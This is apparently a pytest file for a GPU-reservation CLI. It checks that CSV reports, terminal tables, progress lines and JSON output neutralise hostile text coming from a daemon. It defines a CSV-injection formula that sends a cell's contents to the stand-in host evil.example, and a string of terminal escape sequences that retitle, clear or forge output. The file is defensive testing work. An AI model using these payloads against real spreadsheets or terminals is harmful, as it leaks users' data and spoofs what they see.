"""Text others chose never runs in a spreadsheet nor drives a terminal (patroller/safetext.py).

The attack for real: a daemon whose usage history holds a Slurm account
`=HYPERLINK("http://evil.example/?leak="&A3,"Click")` and a user name with escape sequences and
a newline, and `patroller report --csv` run as a real command against it: the account's cell is
quoted and neutralised, nothing of the escapes reaches the output raw, every figure stays a
number, and `--json` gives the exact strings. Then every command against a daemon that answers
such text in every string of every answer (a host in `--hosts` may answer anything): no control
character reaches stdout or stderr, and each `--json` is exactly what was answered."""

import copy
import csv
import io
import json
import re
import subprocess
import sys

import pytest
from helpers import ROOT, ServerProcess
from liars import Handler, LyingServer
from test_fleet import ENV
from test_report import stored
from test_status_table import scenes

from patroller.cli.run import Progress
from patroller.cli.usage import csv_text
from patroller.core.usage import Party
from patroller.doctor.results import failed, lines
from patroller.safetext import CSV_QUOTING, csv_cell, json_text, printable

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"Click")'
EVIL = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x7f\nroot 100%\r"  # retitle, clear, CSI, DEL, a new line
MALLORY = "mallory" + EVIL
RAW = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # every control character but the newline


def patroller(*args):
    return subprocess.run(
        [sys.executable, "-m", "patroller.cli", *args],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
        env={**ENV, "PATROLLER_HOSTS": "", "NO_COLOR": "1"},
    )


def clean(done):
    """Whether nothing of EVIL reached the command's output raw: no control character, and no
    line of its own from its newline."""
    for out in (done.stdout, done.stderr):
        assert not RAW.search(out), repr(out)
        assert "\nroot 100%" not in out, repr(out)
    return True


# -- the rule --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, cell",
    [
        (FORMULA, "'" + FORMULA),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'?=1+1"),
        ("\r=1+1", "'?=1+1"),
        ("alice", "alice"),
        ("", ""),
        ("a=b", "a=b"),
        (MALLORY, "mallory?]0;pwned??[2J?31m??root 100%?"),
        (-1.5, -1.5),
        (-3, -3),
        (0, 0),
        (None, None),  # figures stay numbers, negative ones too
    ],
)
def test_a_csv_cell_is_printable_and_never_a_formula(value, cell):
    assert csv_cell(value) == cell and type(csv_cell(value)) is type(cell)


def test_json_is_exact_with_no_control_character_raw():
    data = {MALLORY: ["".join(map(chr, range(0xA0))), FORMULA], "n": -1}
    text = json_text(data, indent=2)
    assert json.loads(text) == data and json.loads(json_text(data)) == data
    assert not RAW.search(text), repr(text)
    assert printable(MALLORY) == "mallory?]0;pwned??[2J?31m??root 100%?"


def test_report_csv_quotes_every_text_cell_and_keeps_figures_numbers():
    answer = {
        "by": "user,slurm_account",
        "categories": ["active"],
        "rows": [
            {"key": ["-1", "a;=1+1"], "hours": {"active": 2.0}, "gpu_hours": 2.0, "share": 1.0}
        ],
    }
    text = csv_text(answer)
    # every text cell quoted: one that splits on ";" (or any separator) stays whole
    assert text.splitlines()[1] == '"\'-1","a;=1+1",2.0,1.0,2.0'
    assert list(csv.reader(io.StringIO(text), quoting=CSV_QUOTING))[1] == [
        "'-1",
        "a;=1+1",
        2.0,
        1.0,
        2.0,
    ]  # figures unquoted: read back as numbers


def test_the_progress_line_of_a_waiting_run_is_printable():
    out = io.StringIO()  # not a terminal: a line when it changes
    Progress(None, 1, "gpu", out)._show("key", "patroller: waiting; held by " + MALLORY)
    assert out.getvalue() == "patroller: waiting; held by " + printable(MALLORY) + "\n"


def test_the_doctor_prints_what_a_check_quotes_printable():
    said = lines([failed("Docker Engine", "answered " + EVIL, "ask " + EVIL)])
    assert not any(RAW.search(line) or "\n" in line for line in said), said


# -- report --csv against a real daemon whose history holds the attack ------------------------


@pytest.fixture(scope="module")
def history(tmp_path_factory):
    holder = Party(user=MALLORY, account="mallory", job="4242", slurm_account=FORMULA)
    state = stored(tmp_path_factory.mktemp("injection") / "state", 60, holder)
    daemon = ServerProcess("--test", "--state-dir", str(state), "--usage-interval", "1h").start()
    yield daemon.server
    daemon.stop()


def test_report_csv_neutralises_a_formula_and_lets_no_escape_through(history):
    done = patroller("report", "--server", history, "--csv", "--by", "slurm_account")
    assert done.returncode == 0 and clean(done), done.stderr
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}",' in done.stdout  # quoted, neutralised
    rows = list(csv.reader(io.StringIO(done.stdout), quoting=CSV_QUOTING))
    assert rows[0][:3] == ["slurm_account", "gpu_hours", "share"]
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA, ""]  # the GPU no account held
    assert all(isinstance(cell, float) for row in rows[1:] for cell in row[1:])
    done = patroller("report", "--server", history, "--csv", "--by", "user,slurm_account")
    assert done.returncode == 0 and clean(done), done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout), quoting=CSV_QUOTING))
    assert rows[1][:2] == [printable(MALLORY), "'" + FORMULA] and len(rows) == 3


def test_report_table_and_json_of_the_same(history):
    table = patroller("report", "--server", history, "--by", "user")
    assert table.returncode == 0 and clean(table), table.stderr
    assert "mallory?]0;pwned" in table.stdout
    done = patroller("report", "--server", history, "--json", "--by", "user,slurm_account")
    assert done.returncode == 0 and clean(done), done.stderr
    assert json.loads(done.stdout)["rows"][0]["key"] == [MALLORY, FORMULA]  # exact


# -- every command against a daemon that answers such text everywhere -------------------------

KEEP = ("group", "by", "categories")  # what the commands read as words of their own


def poisoned(data, key=None):
    """`data` with EVIL after every string, dict keys of names and ids too, but KEEP's."""
    if isinstance(data, str):
        return data if key in KEEP else data + EVIL
    if isinstance(data, list):
        return [poisoned(item, key) for item in data]
    if isinstance(data, dict):
        return {
            (k if k in FIELDS or key in KEEP else k + EVIL): poisoned(v, k)
            for k, v in data.items()
        }
    return data


FIELDS = set()  # filled from the answers: the field names are the schema's, not data


class Answering(Handler):
    do_POST = Handler.do_GET  # /release, as the client asks it


@pytest.fixture(scope="module")
def liar():
    scene = copy.deepcopy(scenes()["gpuhost.json"])
    status, devices, users = scene["status"], scene["devices"], scene["users"]
    for body in (*status.values(), *devices.values(), *users.values()):
        FIELDS.update(fields_of(body))
    uuid = next(iter(devices))
    grant = {
        "uuid": uuid,
        "group": "gpu",
        "info": {**devices[uuid], "number": "0"},
        "expires": 300.0,
    }
    queue = [{"position": 1, "user": "eve", "wants": {"gpu": 1}, "waited": 3.0, "hold": "lease"}]
    history = [
        {
            "time": "2026-12-04T05:50:49+00:00",
            "event": "grant",
            "user": "eve",
            "devices": [{"uuid": uuid, "number": 0}],
            "hold": "lease",
            "reason": "why",
        }
    ]
    usage = {
        "since": "2026-12-01T00:00:00+00:00",
        "until": "2026-12-02T00:00:00+00:00",
        "first": None,
        "by": "user",
        "categories": ["active"],
        "rows": [{"key": "eve", "hours": {"active": 1.0}, "gpu_hours": 1.0, "share": 1.0}],
        "total": {"hours": {"active": 1.0}, "gpu_hours": 1.0, "shares": {"active": 1.0}},
    }
    released = {"released": [grant], "holder": "eve", "after_exit": [], "kept": []}
    for body in (grant, queue, history, usage, released):
        FIELDS.update(fields_of(body))
    told = {
        "/status": status,
        "/devices": devices,
        "/users": users,
        "/queue": queue,
        "/history": history,
        "/usage": usage,
        "/whoami": {"user": "zed"},
        "/request": [grant],
        "/wait": [grant],
        "/release": released,
    }
    told = {path: poisoned(body) for path, body in told.items()}
    server = LyingServer({path: json.dumps(body).encode() for path, body in told.items()})
    server.RequestHandlerClass = Answering
    refusing = LyingServer({"/status": lambda h: refuse(h, {"error": "no" + EVIL})})
    busy = LyingServer(
        {
            "/request": lambda h: refuse(h, {"error": "busy"}, 409),
            **{path: json.dumps(told[path]).encode() for path in ("/status", "/devices")},
        }
    )
    yield {
        "server": server.start().host,
        "told": told,
        "refusing": refusing.start().host,
        "busy": busy.start().host,
    }
    for liar_ in (server, refusing, busy):
        liar_.stop()


def fields_of(body):
    """The field names of an answer's objects, all the way down (an identity's too)."""
    found = set()
    if isinstance(body, dict):
        for key, value in body.items():
            found.add(key)
            found |= fields_of(value)
    elif isinstance(body, list):
        for item in body:
            found |= fields_of(item)
    return found


def refuse(handler, body, status=403):
    data = json.dumps(body).encode()
    handler.send_response(status)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", str(len(data)))
    handler.end_headers()
    handler.wfile.write(data)


@pytest.mark.parametrize(
    "args",
    [
        ("status",),
        ("status", "--mine"),
        ("status", "--free", "1"),
        ("users",),
        ("queue",),
        ("history",),
        ("release",),
        ("release", "0"),
        ("reserve",),
        ("wait", "--timeout", "5"),
        ("run", "--", "true"),
        ("report",),
        ("report", "--csv"),
    ],
)
def test_no_command_lets_a_control_character_through(liar, args):
    done = patroller(args[0], "--server", liar["server"], *args[1:])  # before run's "--"
    assert clean(done) and "Traceback" not in done.stderr, (done.stdout, done.stderr)
    assert done.stdout or done.stderr  # it said something: the test ran the command


def test_many_hosts_and_a_refusal_let_none_through(liar, tmp_path):
    listed = tmp_path / "hosts"  # a hosts file someone else keeps, and a line of it
    listed.write_text(f"{liar['server']}\n{liar['server']}{EVIL}\n{liar['refusing']}\n")
    for args in (
        ("status", "--hosts", f"{liar['server']},{liar['refusing']}"),
        ("status", "--hosts-file", str(listed)),
        ("status", "--hosts-file", str(listed), "--free", "1"),
        ("report", "--hosts", f"{liar['server']},{liar['refusing']}"),
        ("run", "--server", liar["busy"], "--", "true"),  # who holds them, said
        ("status", "--server", liar["refusing"]),
    ):
        done = patroller(*args)
        assert clean(done) and "Traceback" not in done.stderr, (args, done.stdout, done.stderr)
    assert "the server refused: no?]0;pwned" in done.stderr, done.stderr


@pytest.mark.parametrize(
    "args, path",
    [
        (("status", "--json"), "/status"),
        (("users", "--json"), "/users"),
        (("queue", "--json"), "/queue"),
        (("history", "--json"), "/history"),
        (("report", "--json"), "/usage"),
    ],
)
def test_json_is_exactly_what_was_answered(liar, args, path):
    done = patroller(*args, "--server", liar["server"])
    assert done.returncode == 0 and clean(done), done.stderr
    assert json.loads(done.stdout) == liar["told"][path]
